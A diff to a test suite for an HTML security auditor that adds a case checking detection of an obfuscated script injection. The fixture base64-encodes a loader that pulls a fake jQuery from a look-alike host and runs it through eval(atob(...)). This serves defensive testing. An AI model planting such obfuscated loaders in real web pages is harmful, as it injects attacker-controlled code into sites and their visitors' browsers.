@@ -7,6 +7,7 @@ from a first-party proxy on another host. Every page is one we wrote; the IDs ar
 
 from __future__ import annotations
 
+import base64
 import io
 import json
 
@@ -495,3 +496,14 @@ def test_one_finding_for_a_library_lookalike_outside_the_template(audit_html: Au
     report = audit_html(page("", top=tag("https://jquery-cdn.test/jquery.min.js")), url=URL)
     assert [(f.kind, f.severity) for f in report.findings] == [
         ("lookalike-script", Severity.HIGH)]
+
+
+def test_a_fake_jquery_hidden_in_an_encoding_is_one_finding(audit_html: AuditHtml) -> None:
+    """A loader whose fake jQuery's address is in base64 is `obfuscated-script`'s high,
+    which names the URL: not a look-alike as well (one injection, one finding)."""
+    loader = ("var s=document.createElement('script');s.src='https://cdn.jquery-min.test/"
+              "jquery.min.js?v=3.7';document.head.appendChild(s);")
+    code = f"<script>eval(atob('{base64.b64encode(loader.encode()).decode()}'))</script>"
+    report = audit_html(page(code), url=URL)
+    assert [(f.kind, f.severity) for f in report.findings] == [
+        ("obfuscated-script", Severity.HIGH)]
